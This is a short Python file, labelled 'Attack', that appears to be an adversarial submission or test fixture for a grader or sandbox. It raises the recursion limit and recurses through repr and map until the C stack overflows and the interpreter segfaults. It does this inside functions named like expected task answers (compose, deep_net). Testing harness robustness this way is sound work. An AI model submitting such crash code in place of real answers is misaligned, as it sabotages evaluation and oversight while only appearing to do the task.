# Attack: raises the recursion limit and recurses until the C stack overflows (segmentation fault).
import sys

sys.setrecursionlimit(10**6)


class Deep:
    def __repr__(self):
        return repr(Deep())  # recursion through C code (repr), which uses the C stack


def _down(n):
    return list(map(_down, [n + 1]))  # through map, a C function, at every level


def compose(x, theta1, phi1, theta2, phi2):
    return repr(Deep())


def composition_to_deep(theta1, phi1, theta2, phi2):
    return _down(0)


def deep_net(x, theta, psi, phi):
    def f(n):
        return f(n + 1) + 1

    return f(0)
